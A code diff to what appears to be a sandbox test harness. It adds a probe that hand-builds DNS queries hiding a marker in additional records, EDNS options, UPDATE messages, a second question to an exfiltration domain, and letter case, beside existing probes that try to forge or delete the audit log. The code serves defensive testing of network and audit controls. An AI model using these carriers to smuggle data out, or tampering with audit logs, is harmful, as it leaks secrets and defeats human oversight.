@@ -9,9 +9,9 @@ fake home, secrets in sandgate's environment, the audit log inside the workspace
 host back after each pass, so a blocked row is judged by the probe AND by what the host shows
 (a git indirection file or editor config created or changed, a forged or damaged audit log).
 
-Not covered here: DNS smuggling (additional records, EDNS options, UPDATE, two questions, letter
-case). The world's DNS canary logs only the first question's name, lower-cased, and its type, so
-none of these would leave evidence there even if the proxy forwarded the client's bytes.
+dns_smuggling hides data in a query's other parts (an additional record, an EDNS option, an
+UPDATE, a second question, the letter case of an allowed name); the world's DNS canary logs all
+of them (launcher/canary.py), so verify finds the marker there, or the mixed case (case_name).
 """
 
 from __future__ import annotations
@@ -19,12 +19,17 @@ from __future__ import annotations
 import hashlib
 import json
 import os
+import socket
+import struct
 import subprocess
+import time
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
-from launcher.probes import Ctx, Result, Unsupported, _git_dir, _tag, attempt, combine, probe, try_append
+from launcher.probes import (DNS_TIMEOUT, QTYPE_A, QTYPE_TXT, Blocked, Ctx, DnsMessage, Result, Unsupported, _git_dir,
+                             _tag, attempt, build_query, combine, encode_name, parse_message, probe, system_resolver,
+                             try_append)
 
 GIT_TIMEOUT = 15.0
 #: Inside `.git`: through these git finds config, hooks or code elsewhere (v1: commondir).
@@ -167,6 +172,88 @@ def audit_log_forge(c: Ctx) -> Result:
                     ("truncate", attempt(_truncate, log)),
                     ("rename", attempt(_rename, log, c.mark)),
                     ("remove", attempt(_remove, log))], need="any")
+
+
+# ----------------------------------------------------------------------------- dns smuggling
+
+QTYPE_SOA, QTYPE_OPT, OPT_CODE, CLASS_IN = 6, 41, 65001, 1  # 65001: a local/experimental EDNS option
+
+
+def case_name(name: str, mark: str) -> str:
+    """`name` in a letter case spelled from `mark` (never all lower): how verify recognises it upstream."""
+    bits = int.from_bytes(hashlib.sha256(mark.encode()).digest(), "big") | 1
+    out = [ch.upper() if ch.isalpha() and (bits >> i) & 1 else ch for i, ch in enumerate(name)]
+    return "".join(out)
+
+
+def _rr(name: str, rtype: int, rclass: int, ttl: int, rdata: bytes) -> bytes:
+    owner = b"\0" if name == "." else encode_name(name)
+    return owner + struct.pack("!HHIH", rtype, rclass, ttl, len(rdata)) + rdata
+
+
+def _txt(text: bytes) -> bytes:
+    return bytes([len(text[:255])]) + text[:255]
+
+
+def _message(flags: int, questions: list[tuple[str, int]], ns: bytes = b"", ar: bytes = b"", counts=(0, 0)) -> bytes:
+    """A hand-built message (id 0, set by _send): questions, then ns (authority) and ar (additional) RRs."""
+    head = struct.pack("!HHHHHH", 0, flags, len(questions), 0, *counts)
+    return head + b"".join(encode_name(n) + struct.pack("!HH", t, CLASS_IN) for n, t in questions) + ns + ar
+
+
+def _send(server: str, wire: bytes) -> DnsMessage:
+    """One UDP exchange with a fresh id; the reply to it (TimeoutError if none)."""
+    qid = int.from_bytes(os.urandom(2), "big")
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.connect((server, 53))
+        s.send(struct.pack("!H", qid) + wire[2:])
+        deadline = time.monotonic() + DNS_TIMEOUT
+        while (left := deadline - time.monotonic()) > 0:
+            s.settimeout(left)
+            try:
+                reply = parse_message(s.recv(4096))
+            except ValueError:
+                continue
+            if reply.id == qid and reply.is_response:
+                return reply
+    raise TimeoutError(f"no DNS reply from {server}:53 within {DNS_TIMEOUT:g} s")
+
+
+def _smuggle(server: str, wire: bytes, accepted: str = "") -> Result:
+    """The carrier is stripped or refused by a sound resolver whatever it answers (verify reads the
+    canary for the marker); only `accepted` (a message it must refuse, answered NOERROR) is a bypass here."""
+    try:
+        reply = _send(server, wire)
+    except TimeoutError as e:
+        raise Blocked(str(e)) from e
+    detail = f"rcode {reply.rcode_text}, {len(reply.answers)} answer(s)"
+    if accepted and reply.rcode == 0:
+        return "permitted", f"{detail}: {accepted}"
+    return "blocked", detail
+
+
+@probe("network", "dns_smuggling", "blocked")
+def dns_smuggling(c: Ctx) -> Result:
+    """Data hidden beside an allowed DNS name: an additional record, an EDNS option, an UPDATE, a second question, letter case."""
+    server, host, rd = system_resolver(), c.s("allowed_host"), 0x0100
+    control = _send(server, build_query(host))
+    if c.s("allowed_ip") not in [r.data for r in control.answers]:
+        raise Unsupported(f"the control (A {host}) was not answered from the canary: rcode {control.rcode_text}, "
+                          f"{[r.data for r in control.answers]}: cannot tell")
+    smuggled = c.dns_name()  # <probe>-<mark>.<exfil domain>: what the canary log is searched for
+    q = [(host, QTYPE_A)]
+    additional = _message(rd, q, ar=_rr(smuggled, QTYPE_TXT, CLASS_IN, 0, _txt(c.marker)), counts=(0, 1))
+    option = struct.pack("!HH", OPT_CODE, len(c.marker)) + c.marker
+    edns = _message(rd, q, ar=_rr(".", QTYPE_OPT, 1232, 0, option), counts=(0, 1))
+    update = _message(5 << 11, [(host, QTYPE_SOA)], counts=(1, 0),
+                      ns=_rr(f"{c.label}.{host}", QTYPE_TXT, CLASS_IN, 60, _txt(c.marker)))
+    two = _message(rd, [*q, (smuggled, QTYPE_A)])
+    case = build_query(case_name(host, c.mark))
+    return combine([("additional TXT", attempt(_smuggle, server, additional)),
+                    ("EDNS option", attempt(_smuggle, server, edns)),
+                    ("UPDATE", attempt(_smuggle, server, update, "UPDATE accepted")),
+                    ("two questions", attempt(_smuggle, server, two)),
+                    ("mixed case", attempt(_smuggle, server, case))], need="any")
 
 
 # ------------------------------------------------ the outside halves: run by verify, never inside
